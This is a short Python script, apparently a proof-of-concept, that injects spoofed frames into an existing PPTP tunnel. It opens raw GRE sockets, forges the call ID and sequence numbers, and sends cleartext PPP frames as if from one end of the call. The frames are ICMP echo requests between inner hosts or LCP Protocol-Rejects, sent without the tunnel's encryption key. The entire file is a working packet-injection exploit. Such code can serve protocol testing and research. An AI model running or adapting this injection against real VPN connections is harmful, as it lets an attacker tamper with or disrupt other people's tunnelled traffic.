#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Somebody without the key of a call, who knows its addresses and its number, sends in
the name of one of its ends, in the clear.

Usage: in_its_name.py FROM TO CALL-ID FIRST NUMBER echo SOURCE DESTINATION
       in_its_name.py FROM TO CALL-ID FIRST NUMBER reject PROTOCOL
FROM and TO are the ends of the call, and NUMBER packets from number FIRST on are sent:
echo requests between hosts inside, or Protocol-Rejects of LCP (RFC 1661 section 5.7).
"""

import socket
import struct
import sys


def checksum(octets):
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def echo_request(source, destination):
    icmp = struct.pack("!BBHHH", 8, 0, 0, 2637, 1)
    icmp = struct.pack("!BBHHH", 8, 0, checksum(icmp), 2637, 1)
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(icmp), 1, 0, 64, 1, 0,
                       socket.inet_aton(source), socket.inet_aton(destination))
    return b"\x00\x21" + head[:10] + struct.pack("!H", checksum(head)) + head[12:] + icmp


def protocol_reject(protocol):
    rejected = bytes.fromhex(protocol) + b"what was encrypted"
    return b"\xc0\x21\x08\x2a" + struct.pack("!H", 4 + len(rejected)) + rejected


FRAMES = {"echo": echo_request, "reject": protocol_reject}


def main():
    near, far, call_id, first, number, kind, *rest = sys.argv[1:]
    frame = b"\xff\x03" + FRAMES[kind](*rest)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_GRE) as sock:
        sock.bind((near, 0))
        for seq in range(int(first), int(first) + int(number)):
            sock.sendto(struct.pack("!HHHHI", 0x3001, 0x880b, len(frame), int(call_id),
                                    seq) + frame, (far, 0))


if __name__ == "__main__":
    main()
